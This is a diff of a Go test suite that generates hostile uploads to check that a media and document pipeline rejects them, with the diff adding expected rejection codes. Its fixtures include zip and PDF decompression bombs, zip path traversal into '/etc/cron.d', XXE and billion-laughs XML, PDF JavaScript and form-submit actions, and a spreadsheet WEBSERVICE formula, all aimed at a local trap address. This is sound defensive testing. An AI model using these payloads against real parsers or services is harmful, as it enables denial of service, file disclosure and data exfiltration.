@@ -53,15 +53,29 @@ func hostileSounds(t *testing.T, trap *trap) []hostile {
 	aiff := readAll(t, generate(t, "a.aiff", tone(1, 48000, 2)...))
 	long := slices.Clone(flac)
 	copy(long[21:26], []byte{0x0f, 0xff, 0xff, 0xff, 0xff}) // 36 bits of samples, the low ones
-	for name, content := range map[string][]byte{
-		"half.wav": wav[:len(wav)/2], "half.flac": flac[:len(flac)/2], "half.aiff": aiff[:len(aiff)/2], "long.flac": long,
-		"endless.wav": patched(wav, 40, 0xff, 0xff, 0xff, 0x7f), "no channels.wav": patched(wav, 22, 0, 0), "no rate.wav": patched(wav, 24, 0, 0, 0, 0),
-		"strange codec.wav": patched(wav, 20, 0x77, 0x77), "noise.flac": append([]byte("fLaC"), noise(4000)...), "noise.ogg": append([]byte("OggS"), noise(4000)...),
-		"no sound.mp3": append(slices.Clone(mp3[:200]), make([]byte, 4000)...), "head.ogg": ogg[:40], "name only.wav": []byte("RIFF\xff\xff\xff\xffWAVE"),
-		"program.wav": []byte("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200)), "archive.wav": zipOf(t, packed{name: "a", content: []byte("a")}),
-		"empty.wav": nil, "page.wav": []byte("<!doctype html><audio src=http://" + trap.address + "/>"),
+	for name, c := range map[string]struct {
+		content []byte
+		code    string
+	}{
+		"half.wav":          {wav[:len(wav)/2], "truncated"},
+		"half.flac":         {flac[:len(flac)/2], "truncated"},
+		"half.aiff":         {aiff[:len(aiff)/2], "truncated"},
+		"long.flac":         {long, "duration_long"},
+		"endless.wav":       {patched(wav, 40, 0xff, 0xff, 0xff, 0x7f), "undecodable"},
+		"no channels.wav":   {patched(wav, 22, 0, 0), "undecodable"},
+		"no rate.wav":       {patched(wav, 24, 0, 0, 0, 0), "undecodable"},
+		"strange codec.wav": {patched(wav, 20, 0x77, 0x77), "codec_not_supported"},
+		"noise.flac":        {append([]byte("fLaC"), noise(4000)...), "undecodable"},
+		"noise.ogg":         {append([]byte("OggS"), noise(4000)...), "undecodable"},
+		"no sound.mp3":      {append(slices.Clone(mp3[:200]), make([]byte, 4000)...), "not_audio"},
+		"head.ogg":          {ogg[:40], "undecodable"},
+		"name only.wav":     {[]byte("RIFF\xff\xff\xff\xffWAVE"), "undecodable"},
+		"program.wav":       {[]byte("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200)), "not_audio"},
+		"archive.wav":       {zipOf(t, packed{name: "a", content: []byte("a")}), "not_audio"},
+		"empty.wav":         {nil, "empty_file"},
+		"page.wav":          {[]byte("<!doctype html><audio src=http://" + trap.address + "/>"), "not_audio"},
 	} {
-		out = append(out, hostile{kind: project.KindAudio, name: name, content: content})
+		out = append(out, hostile{kind: project.KindAudio, name: name, content: c.content, code: c.code})
 	}
 	return out
 }
@@ -71,15 +85,15 @@ func hostileFilms(t *testing.T, trap *trap) []hostile {
 	var out []hostile
 	mp4 := project.Spec{Formats: []string{"mp4"}}
 	for name, text := range playlists(trap) {
-		out = append(out, hostile{kind: project.KindVideo, name: name + ".mp4", content: []byte(text), spec: mp4})
+		out = append(out, hostile{kind: project.KindVideo, name: name + ".mp4", content: []byte(text), spec: mp4, code: "playlist_refused"})
 	}
 	film := readAll(t, generate(t, "a.mp4", "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-c:v", "libx264", "-threads", "1"))
 	magic := readAll(t, generate(t, "a.mkv", "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-c:v", "magicyuv"))
 	return append(out,
-		hostile{kind: project.KindVideo, name: "magicyuv.mkv", content: magic, spec: mp4},
+		hostile{kind: project.KindVideo, name: "magicyuv.mkv", content: magic, spec: mp4, code: "codec_not_supported"},
 		hostile{kind: project.KindVideo, name: "empty.mp4", spec: mp4, code: "empty_file"},
-		hostile{kind: project.KindVideo, name: "half.mp4", content: film[:len(film)/2], code: harmless},
-		hostile{kind: project.KindVideo, name: "noise.mp4", content: append([]byte("\x00\x00\x00\x20ftypisom"), noise(4000)...), code: harmless},
+		hostile{kind: project.KindVideo, name: "half.mp4", content: film[:len(film)/2], code: "undecodable"},
+		hostile{kind: project.KindVideo, name: "noise.mp4", content: append([]byte("\x00\x00\x00\x20ftypisom"), noise(4000)...), code: "undecodable"},
 		hostile{kind: project.KindVideo, name: "elsewhere.mp4", content: bytes.ReplaceAll(film, []byte("url "), []byte("alis")), code: harmless})
 }
 
@@ -107,11 +121,11 @@ func hostilePDFs(t *testing.T, trap *trap) []hostile {
 		"page.pdf":              {[]byte("<!doctype html><script src=http://" + trap.address + "/></script>"), "not_pdf"},
 		"cut.pdf":               {good[:len(good)-200], "pdf_cut_off"},
 		"wrong table.pdf":       {bytes.Replace(good, []byte("startxref\n"), []byte("startxref\n9"), 1), "pdf_cut_off"},
-		"table runs round.pdf":  {bytes.Replace(pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"), []byte("/Root"), []byte("/Prev 9/Root"), 1), ""},
+		"table runs round.pdf":  {bytes.Replace(pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"), []byte("/Root"), []byte("/Prev 9/Root"), 1), "pdf_unreadable"},
 		"bomb.pdf":              {page(pdfStream("/Filter/FlateDecode", zeros), none), "pdf_bomb"},
 		"bomb in a bomb.pdf":    {page(pdfStream("/Filter[/FlateDecode/FlateDecode]", deflate(zeros)), none), "pdf_bomb"},
 		"picture that lies.pdf": {page(pdfStream("", []byte("q Q")), none, pdfStream("/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode", zeros)), "pdf_bomb"},
-		"object bomb.pdf":       {page(pdfStream("", []byte("q Q")), none, pdfStream("/Type/ObjStm/N 900000000/First 10/Filter/FlateDecode", zeros)), ""},
+		"object bomb.pdf":       {page(pdfStream("", []byte("q Q")), none, pdfStream("/Type/ObjStm/N 900000000/First 10/Filter/FlateDecode", zeros)), "pdf_bomb"},
 		"password.pdf":          {letter(t, "secret", "owner"), "pdf_encrypted"},
 		"restricted.pdf":        {letter(t, "", "owner"), "pdf_encrypted"},
 		"script.pdf":            {action("<</S/JavaScript/JS(this.submitForm\\('http://" + trap.address + "'\\))>>"), "pdf_active"},
@@ -119,11 +133,11 @@ func hostilePDFs(t *testing.T, trap *trap) []hostile {
 		"submit.pdf":            {action("<</S/SubmitForm/F<</FS/URL/F(http://" + trap.address + "/)>>>>"), "pdf_active"},
 		"remote.pdf":            {action("<</S/GoToR/F(" + trap.canary + ")/D[0/Fit]>>"), "pdf_attachment"},
 		"attachment.pdf":        {page(pdfStream("", []byte("q Q")), "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>", "<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", pdfStream("/Type/EmbeddedFile", []byte("MZ"))), "pdf_attachment"},
-		"other file.pdf":        {page(pdfStream("/F("+trap.canary+")/FFilter/FlateDecode", nil), none), harmless},
+		"other file.pdf":        {page(pdfStream("/F("+trap.canary+")/FFilter/FlateDecode", nil), none), "pdf_unreadable"},
 		"circle.pdf":            {pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1/MediaBox[0 0 9 9]>>"), "pdf_unreadable"},
 		"deep.pdf":              {pdfOf(append(deep, "<</Type/Page>>")...), "pdf_unreadable"},
 		"no pages.pdf":          {pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"), "pdf_unreadable"},
-		"brackets.pdf":          {page(pdfStream("", []byte("q Q")), strings.Repeat("[", 200_000)), harmless},
+		"brackets.pdf":          {page(pdfStream("", []byte("q Q")), strings.Repeat("[", 200_000)), "pdf_unreadable"},
 		"broken page.pdf":       {page(pdfStream("/Filter/FlateDecode", deflate(noise(5000))[:3000]), none), "page_damaged"},
 		"empty.pdf":             {nil, "empty_file"},
 	} {
@@ -154,7 +168,7 @@ func hostilePictures(t *testing.T, trap *trap) []hostile {
 	}{
 		"vast.png":       {vastPNG(30000, 30000), "too_many_pixels"},
 		"long.png":       {vastPNG(1<<30, 1), "too_many_pixels"},
-		"overflow.png":   {vastPNG(1<<31-1, 1<<31-1), ""},
+		"overflow.png":   {vastPNG(1<<31-1, 1<<31-1), "undecodable"},
 		"vast.jpg":       {patched(asJPEG.Bytes(), frame+5, 0xff, 0xdc, 0xff, 0xdc), "too_many_pixels"},
 		"vast.gif":       {patched(asGIF.Bytes(), 6, 0xff, 0xff, 0xff, 0xff), "format_not_allowed"},
 		"vast.webp":      {patched(webp, 26, 0xff, 0x3f, 0xff, 0x3f), "too_many_pixels"},
@@ -162,9 +176,9 @@ func hostilePictures(t *testing.T, trap *trap) []hostile {
 		"half.jpg":       {asJPEG.Bytes()[:asJPEG.Len()/2], "undecodable"},
 		"half.png":       {asPNG.Bytes()[:asPNG.Len()/2], "undecodable"},
 		"half.webp":      {webp[:len(webp)-6], "undecodable"},
-		"half.tiff":      {asTIFF.Bytes()[:asTIFF.Len()-60], ""},
+		"half.tiff":      {asTIFF.Bytes()[:asTIFF.Len()-60], "undecodable"},
 		"flipped.png":    {patched(asPNG.Bytes(), asPNG.Len()/2, 1, 2, 3), "undecodable"},
-		"no end.tiff":    {patched(asTIFF.Bytes(), 4, 0xf0, 0xff, 0xff, 0xff), ""},
+		"no end.tiff":    {patched(asTIFF.Bytes(), 4, 0xf0, 0xff, 0xff, 0xff), "undecodable"},
 		"round.jpg":      {exifLoop(asJPEG.Bytes()), harmless},
 		"commands.png":   {[]byte("push graphic-context\nviewbox 0 0 9 9\nfill 'url(http://" + trap.address + "/a.png)'\npop graphic-context\n"), "not_image"},
 		"postscript.png": {[]byte("%!PS-Adobe-3.0 EPSF-3.0\n(" + trap.canary + ") (r) file\n"), "not_image"},
@@ -200,7 +214,7 @@ func hostileArchives(t *testing.T) []hostile {
 	}{
 		"bomb.zip":           {zipOf(t, zeros), "archive_bomb"},
 		"bomb within.zip":    {zipOf(t, packed{name: "inner.zip", content: zipOf(t, zeros)}), "archive_bomb"},
-		"liar.zip":           {patched(zipOf(t, packed{name: "a", content: noise(9000), deflate: true}), -22-46-1+24, 1, 0, 0, 0), ""},
+		"liar.zip":           {patched(zipOf(t, packed{name: "a", content: noise(9000), deflate: true}), -22-46-1+24, 1, 0, 0, 0), "archive_damaged"},
 		"overlap.zip":        {patched(two, second+42, 0, 0, 0, 0), "archive_overlap"},
 		"up.zip":             {zipOf(t, packed{name: "../../etc/cron.d/a", content: text}), "archive_outside"},
 		"backslash.zip":      {zipOf(t, packed{name: `..\..\a.dll`, content: text}), "archive_outside"},
@@ -243,25 +257,25 @@ func hostileTexts(t *testing.T, trap *trap) []hostile {
 	add := func(kind project.MediaKind, name, code string, content []byte, formats ...string) {
 		out = append(out, hostile{kind: kind, name: name, content: content, code: code, spec: project.Spec{Formats: formats}})
 	}
-	add(project.KindText, "program.txt", "", []byte("\x7fELF\x02\x01\x01"+strings.Repeat("\x00", 99)), "txt")
+	add(project.KindText, "program.txt", "not_text", []byte("\x7fELF\x02\x01\x01"+strings.Repeat("\x00", 99)), "txt")
 	add(project.KindText, "empty.md", "empty_file", nil, "md")
-	add(project.KindText, "brackets.md", harmless, []byte(strings.Repeat("[", 200_000)), "md")
-	add(project.KindText, "quotes.md", harmless, []byte(strings.Repeat(">", 200_000)), "md")
+	add(project.KindText, "brackets.md", "unreadable", []byte(strings.Repeat("[", 200_000)), "md")
+	add(project.KindText, "quotes.md", "unreadable", []byte(strings.Repeat(">", 200_000)), "md")
 	add(project.KindText, "address.md", harmless, []byte("![a](http://"+trap.address+"/a.png)\n[b](file://"+trap.canary+")\n"), "md")
-	add(project.KindText, "bomb.docx", harmless, docx("<w>"+strings.Repeat(" ", 64<<20)+"</w>"), "docx")
-	add(project.KindText, "entity.docx", harmless, docx("<!DOCTYPE x [<!ENTITY x SYSTEM \"file://"+trap.canary+"\">]><w>&x;</w>"), "docx")
-	add(project.KindTable, "wide.csv", harmless, []byte(strings.Repeat("a,", 1_000_000)+"\n"), "csv")
-	add(project.KindTable, "one quote.csv", harmless, []byte("a,b\n\""+strings.Repeat("x\n", 500_000)), "csv")
-	add(project.KindTable, "formula.csv", harmless, []byte("a\n=WEBSERVICE(\"http://"+trap.address+"\")\n"), "csv")
-	add(project.KindTable, "deep.jsonl", harmless, []byte(strings.Repeat("[", 100_000)), "jsonl")
-	add(project.KindTable, "picture.csv", "", vastPNG(1, 1), "csv")
-	add(project.KindSubtitles, "noise.srt", "", noise(5000), "srt")
-	add(project.KindSubtitles, "backwards.srt", harmless, []byte("1\n00:00:09,000 --> 00:00:01,000\nno\n"), "srt")
-	add(project.KindTranslation, "laughs.xliff", harmless, []byte(laughs))
-	add(project.KindTranslation, "file.xliff", harmless, entity("file://"+trap.canary))
-	add(project.KindTranslation, "address.xliff", harmless, entity("http://"+trap.address+"/x"))
-	add(project.KindTranslation, "deep.xliff", harmless, []byte("<?xml version=\"1.0\"?>"+strings.Repeat("<g>", 100_000)))
-	add(project.KindTranslation, "endless.po", harmless, []byte("msgid \""+strings.Repeat("a", 1<<20)), "po")
+	add(project.KindText, "bomb.docx", "unreadable", docx("<w>"+strings.Repeat(" ", 64<<20)+"</w>"), "docx")
+	add(project.KindText, "entity.docx", "unreadable", docx("<!DOCTYPE x [<!ENTITY x SYSTEM \"file://"+trap.canary+"\">]><w>&x;</w>"), "docx")
+	add(project.KindTable, "wide.csv", "unreadable", []byte(strings.Repeat("a,", 1_000_000)+"\n"), "csv")
+	add(project.KindTable, "one quote.csv", "unreadable", []byte("a,b\n\""+strings.Repeat("x\n", 500_000)), "csv")
+	add(project.KindTable, "formula.csv", harmless, []byte("a\n\"=WEBSERVICE(\"\"http://"+trap.address+"\"\")\"\n"), "csv")
+	add(project.KindTable, "deep.jsonl", "not_table", []byte(strings.Repeat("[", 100_000)), "jsonl")
+	add(project.KindTable, "picture.csv", "not_table", vastPNG(1, 1), "csv")
+	add(project.KindSubtitles, "noise.srt", "not_subtitles", noise(5000), "srt")
+	add(project.KindSubtitles, "backwards.srt", "cue_backwards", []byte("1\n00:00:09,000 --> 00:00:01,000\nno\n"), "srt")
+	add(project.KindTranslation, "laughs.xliff", "unreadable", []byte(laughs))
+	add(project.KindTranslation, "file.xliff", "unreadable", entity("file://"+trap.canary))
+	add(project.KindTranslation, "address.xliff", "unreadable", entity("http://"+trap.address+"/x"))
+	add(project.KindTranslation, "deep.xliff", "not_translation", []byte("<?xml version=\"1.0\"?>"+strings.Repeat("<g>", 100_000)))
+	add(project.KindTranslation, "endless.po", "unreadable", []byte("msgid \""+strings.Repeat("a", 1<<20)), "po")
 	return out
 }
 
